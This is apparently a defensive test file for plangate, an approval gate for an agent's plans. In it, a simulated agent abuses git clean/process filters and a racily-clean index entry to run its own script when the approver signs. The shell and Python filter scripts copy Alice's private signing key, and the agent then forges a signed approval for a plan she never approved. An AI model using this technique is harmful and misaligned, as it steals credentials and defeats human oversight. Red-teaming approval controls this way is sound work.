# ruff: noqa: E501  (attack steps read best on one line)
"""Round 19, who may make a plan run: ``plangate approve --sign`` in the checkout the agent
shares runs the agent's program through a committed ``.gitattributes`` filter.

Round 6 (``test_round6_approve_signprog.py``) found that ``plangate approve --sign`` ran the
``gpg.ssh.program`` the agent wrote into the shared ``.git/config``, as the approver, with her
key in reach; fixed since (the approver's signing settings no longer come from the
repository's config). The controller itself reads no working-tree file through git (a
committed ``.gitattributes`` selects no filter for it: docs/threat-model.md). But staging a
PLAN.yml for the approval commit is a git read of the working tree: a ``filter=<driver>``
attribute the agent committed, with ``filter.<driver>.clean`` (or ``.process``) in
``.git/config``, runs the agent's program as the approver.

Config: ``require_signed: true``; ``allowed_signers``: Alice's key. The agent commits every
plan, a ``.gitattributes`` (``* filter=evil diff=evil``) and ``bait.txt``; the controller
freezes them. The agent then sets ``bait.txt``'s mtime to the year 2100 and refreshes the index:
the entry stays "racily clean" for good, so every git command that compares the working tree
with the index (``diff-files``, ``status``, ``add``) hashes that file again, through the
filter. (Without the bait it happens whenever the approval follows a write of the index in the
same second: the first run of this module broke so, by timing.)
Per variant the agent sets the named keys in ``.git/config`` to its script, Alice (her signing
settings in her environment: ``gpg.format=ssh``, ``user.signingKey``) runs ``plangate approve
--sign plans/<v>``, and the keys are removed again. The script logs that it ran and copies the
key file ``git config user.signingKey`` names (it runs as Alice, with her environment), then
passes the file through unchanged, so Alice sees a normal approval. Finally the agent signs,
with any key it took, a commit as Alice that sets ``plans/evil`` approved.

- ``clean``: ``filter.evil.clean``.
- ``process``: ``filter.evil.process`` (the long-running filter protocol; the script speaks
  just enough of it to pass files through).
- ``x509``: ``gpg.format=x509`` and ``gpg.x509.program`` (control for the round 6 fix).
- ``openpgp``: ``gpg.format=openpgp`` and ``gpg.program``.
- ``fsmonitor``: ``core.fsmonitor``.
- ``include``: ``include.path`` of a file naming ``gpg.ssh.program``.
- ``textconv``: ``diff.evil.textconv`` and ``diff.external``.
- ``controller`` (control): the controller's pass that starts Alice's approvals, run with
  ``filter.evil.clean`` set to the script.

Defence: the agent's program never runs for Alice (no log, no key copied), and
``plans/evil`` never runs. Each of Alice's own approvals runs its plan once.

Results: ``clean`` and ``process`` BROKE: the script ran when Alice approved (``approved
plans/clean in ...``, exit 0, nothing shown to her), copied her private key, and the agent's
commit signed with it ("Alice approve plans/evil") was taken as her signed approval:
``plans/evil`` started and ``rec`` ran. ``controller`` BROKE too: the controller's pass ran the
script (14 times in one pass; its parent process is the controller's ``git update-index -z
--index-info``, with the controller's pinned ``GIT_CONFIG_*`` environment), i.e. the agent's
program ran as the controller's user, against docs/threat-model.md ("A committed
``.gitattributes`` selects a clean/process filter ...: the controller runs no git command that
reads working-tree contents"). ``x509``, ``openpgp``, ``fsmonitor``, ``include`` and
``textconv`` held.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from advkit import AGENT, ALICE, Lab, identity, plan_text
from test_round2_execution_kit import shared
from test_round6_approve_signprog import _keygen

SCRIPT = """#!/bin/sh
echo "{name}" >> "{ran}"
key=$(git config --get user.signingKey 2>/dev/null)
if [ -n "$key" ] && [ -f "$key" ]; then cp "$key" "{stolen}"; chmod 600 "{stolen}"; fi
exec cat
"""

#: a minimal long-running filter (gitattributes(5) "Long Running Filter Process"): pass through
PROCESS = r"""#!{python}
import os, shutil, subprocess, sys
with open("{ran}", "a") as f:
    f.write("{name}\n")
key = subprocess.run(["git", "config", "--get", "user.signingKey"], capture_output=True, text=True).stdout.strip()
if key and os.path.isfile(key):
    shutil.copy(key, "{stolen}")
    os.chmod("{stolen}", 0o600)
i, o = sys.stdin.buffer, sys.stdout.buffer
def read_pkt():
    n = i.read(4)
    if not n:
        return None
    size = int(n, 16)
    return b"" if size == 0 else i.read(size - 4)
def read_list():
    out = []
    while True:
        p = read_pkt()
        if not p:
            return out
        out.append(p)
def pkt(data):
    o.write(b"%04x" % (len(data) + 4) + data)
def flush():
    o.write(b"0000"); o.flush()
read_list(); pkt(b"git-filter-server\n"); pkt(b"version=2\n"); flush()
read_list(); pkt(b"capability=clean\n"); pkt(b"capability=smudge\n"); flush()
while True:
    head = read_pkt()
    if head is None:
        break
    read_list()
    data = b"".join(read_list())
    pkt(b"status=success\n"); flush()
    for k in range(0, len(data), 65000):
        pkt(data[k : k + 65000])
    flush(); flush()
"""

VIDS = ["clean", "process", "x509", "openpgp", "fsmonitor", "include", "textconv"]
#: the controller's own pass, run with the agent's clean filter configured (control)
PROGRAM_VIDS = [*VIDS, "controller"]
_WHY = "round 19: plangate approve --sign stages PLAN.yml through the .gitattributes filter the agent committed; its filter program (from .git/config) runs as the approver and takes her signing key"
_WHY_CONTROLLER = "round 19: the controller's own `git update-index -z --index-info` (local mode) re-hashes a racily clean index entry through the agent's .gitattributes clean filter: the agent's program runs as the controller"
#: round 19: all broke; fixed since: plangate's index update runs on a private copy of the
#: index dated 0, so git's racily-clean check reads no working-tree file through a filter
FOUND = {
    "clean": pytest.mark.xfail(strict=True, raises=AssertionError, reason=_WHY),
    "process": pytest.mark.xfail(strict=True, raises=AssertionError, reason=_WHY),
    "controller": pytest.mark.xfail(strict=True, raises=AssertionError, reason=_WHY_CONTROLLER),
}
BROKEN: dict[str, object] = {}


def _settings(root: Path, vid: str) -> list[tuple[str, str]]:
    script = str(root / f"agent-{vid}.sh")
    if vid == "clean":
        return [("filter.evil.clean", script)]
    if vid == "process":
        return [("filter.evil.process", script)]
    if vid == "x509":
        return [("gpg.format", "x509"), ("gpg.x509.program", script)]
    if vid == "openpgp":
        return [("gpg.format", "openpgp"), ("gpg.program", script)]
    if vid == "fsmonitor":
        return [("core.fsmonitor", script)]
    if vid == "include":
        inc = root / "agent-include.cfg"
        inc.write_text(f'[gpg "ssh"]\n\tprogram = {script}\n')
        return [("include.path", str(inc))]
    return [("diff.evil.textconv", script), ("diff.external", script)]


def _build(root: Path) -> Lab:
    keys = root / "keys"
    keys.mkdir(parents=True)
    pub = _keygen(keys / "alice")
    signers = root / "allowed_signers"
    signers.write_text(f"{ALICE[1]} {pub}\n")
    lab = Lab(root, approval=f"require_signed: true\nallowed_signers: {signers}\n")
    for vid in [*VIDS, "evil"]:
        lab.write(vid, plan_text(vid))
    (lab.repo / ".gitattributes").write_text("* filter=evil diff=evil\n")
    (lab.repo / "bait.txt").write_text("bait\n")
    lab.commit("agent adds the plans", AGENT)
    lab.run()  # freeze
    # the agent keeps one index entry "racily clean" for good (its mtime in 2100), so every
    # git command that compares the working tree with the index reads that file through the filter
    os.utime(lab.repo / "bait.txt", (4102444800, 4102444800))
    lab.git("-c", "filter.evil.clean=cat", "update-index", "--refresh", check=False)
    for vid in VIDS:
        script = root / f"agent-{vid}.sh"
        text = PROCESS if vid == "process" else SCRIPT
        script.write_text(
            text.format(
                name=vid,
                ran=root / "agent-ran.log",
                stolen=root / f"stolen-{vid}",
                python=sys.executable,
            )
        )
        script.chmod(0o755)
        settings = _settings(root, vid)
        for key, value in settings:
            lab.git("config", key, value)
        env = lab.env()
        env.update(
            identity(ALICE),
            GIT_CONFIG_COUNT="2",
            GIT_CONFIG_KEY_0="gpg.format",
            GIT_CONFIG_VALUE_0="ssh",
            GIT_CONFIG_KEY_1="user.signingKey",
            GIT_CONFIG_VALUE_1=str(keys / "alice"),
        )
        out = subprocess.run(
            [
                sys.executable,
                "-m",
                "controller",
                "approve",
                "--sign",
                "--config",
                str(lab.config),
                f"plans/{vid}",
            ],
            cwd=lab.repo,
            env=env,
            capture_output=True,
            text=True,
            check=False,
        )
        (root / f"approve-{vid}.out").write_text(f"{out.returncode}\n{out.stdout}\n{out.stderr}")
        for key, _ in settings:
            lab.git("config", "--unset", key)
    # the controller's own pass with the filter configured (control: it reads no working tree)
    script = root / "agent-controller.sh"
    script.write_text(
        SCRIPT.format(
            name="controller",
            ran=root / "agent-ran.log",
            stolen=root / "stolen-controller",
            python=sys.executable,
        )
    )
    script.chmod(0o755)
    lab.git("config", "filter.evil.clean", str(script))
    lab.run()  # Alice's approvals
    lab.git("config", "--unset", "filter.evil.clean")
    stolen = [p for p in sorted(root.glob("stolen-*")) if p.is_file()]
    lab.set_status("evil", "approved")
    lab.git("add", "-A")
    if stolen:
        lab.git(
            "-c",
            "gpg.format=ssh",
            "-c",
            f"user.signingKey={stolen[0]}",
            "commit",
            "-q",
            "-S",
            "-m",
            "approve plans/evil",
            who=ALICE,
        )
    else:
        lab.git("commit", "-q", "-m", "approve plans/evil", who=ALICE)
    lab.run()
    return lab


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Lab:
    return shared(tmp_path_factory, "r19-approvefilter", _build)


@pytest.mark.parametrize("vid", VIDS)
def test_alices_signed_approval_runs_what_she_approved(lab: Lab, vid: str) -> None:
    assert len(lab.calls(vid)) == 1, (lab.root / f"approve-{vid}.out").read_text() + lab.codes(vid)


@pytest.mark.parametrize(
    "vid", [pytest.param(v, id=v, marks=BROKEN.get(v, [])) for v in PROGRAM_VIDS]
)
def test_the_agents_program_never_runs_for_alice(lab: Lab, vid: str) -> None:
    ran = lab.root / "agent-ran.log"
    names = ran.read_text().split() if ran.exists() else []
    assert vid not in names, (
        f"the agent's program ran as Alice during plangate approve --sign ({vid})"
    )
    assert not (lab.root / f"stolen-{vid}").exists(), "the agent copied Alice's signing key"


def test_a_plan_alice_never_approved_never_runs(lab: Lab) -> None:
    assert lab.calls("evil") == [], lab.codes("evil")
    assert not lab.started("evil"), lab.codes("evil")
